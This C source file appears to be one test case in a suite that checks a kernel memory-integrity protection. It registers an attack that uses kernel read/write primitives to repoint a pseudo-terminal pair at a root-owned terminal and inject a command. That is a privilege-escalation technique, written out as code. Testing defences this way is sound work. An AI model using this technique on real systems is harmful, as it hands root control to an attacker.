// SPDX-License-Identifier: GPL-2.0-only
#include "commands.h"

ATTACK("page_cache_integrity", "terminal_other",
       "page_cache_integrity: bytes for the terminal of another",
       "The program changes which terminal is the slave of its own master to that of a "
       "program of root, and types there.",
       "Each terminal's page says in sealed memory who types.",
       "Root's program does what the attacker has typed.");

#define SEARCHED 8192u /* bytes of a pair */

/* What says, of a master, which terminal is its slave: in its pair. */
static uint64_t slave_place(int master, int slave)
{
	const uint64_t task = own_task(), private = member("file.private");
	const uint64_t pair = peek(file_struct(task, master) + private),
		       terminal = peek(file_struct(task, slave) + private);

	for (uint64_t at = pair; at < pair + SEARCHED; at += 8)
		if (peek(at) == terminal)
			return at;
	say_part("attacker: there is no slave in its pair\n");
	leave(9);
}

static bool fire(void)
{
	static const char line[] = { PUBLISH_COMMAND, '\n' };
	int master;
	const int slave = open_terminal(&master);
	const uint64_t place = slave_place(master, slave), own = peek(place);

	poke(place, victim_object());
	call3(__NR_write, master, (long)line, sizeof(line));
	poke(place, own);
	return victim_obeys();
}

static void victim(void)
{
	int master;

	obey(open_terminal(&master));
}
